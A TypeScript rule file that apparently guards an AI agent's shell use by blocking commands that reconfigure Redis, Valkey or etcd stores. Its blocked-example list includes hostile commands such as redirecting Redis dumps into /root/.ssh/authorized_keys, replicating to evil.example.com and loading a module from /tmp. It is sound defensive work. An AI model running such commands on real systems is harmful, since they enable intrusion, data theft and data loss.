import { actGuard } from '../../act-guard.ts'

export const keyValueConfigure = actGuard({
  id: 'safety/data/key-value-configure',
  title: 'Changing how a data store keeps its data',
  why: 'A store that is stopped, that follows another master or that writes to another place may lose its data.',
  instead: 'read the setting (`redis-cli CONFIG GET dir`) and let the user change it.',
  acts: ['key-value/configure'],
  mentions: /\b(redis-cli|valkey-cli|keydb-cli|etcdctl)\b/,
  maybe: 'may change how a data store keeps its data',
  modes: { standard: 'ask', strict: 'deny', paranoid: 'deny' },
  examples: {
    stops: [
      'redis-cli CONFIG SET dir /root/.ssh',
      'redis-cli config set dbfilename authorized_keys',
      'redis-cli CONFIG REWRITE',
      'redis-cli -h cache.example.com SHUTDOWN NOSAVE',
      'redis-cli REPLICAOF evil.example.com 6379',
      'redis-cli SLAVEOF evil.example.com 6379',
      'redis-cli MODULE LOAD /tmp/x.so',
      'redis-cli DEBUG SEGFAULT',
      'echo "CONFIG SET dir /tmp" | redis-cli',
      'valkey-cli shutdown',
      'etcdctl snapshot restore backup.db',
    ],
    passes: [
      'redis-cli CONFIG GET dir',
      'redis-cli CONFIG GET "*"',
      'redis-cli REPLICAOF NO ONE',
      'redis-cli INFO replication',
      'redis-cli MODULE LIST',
      'redis-cli DEBUG OBJECT key',
      'redis-cli SET config shutdown',
      'valkey-cli save',
      'etcdctl snapshot save backup.db',
      'etcdctl endpoint health',
    ],
  },
})
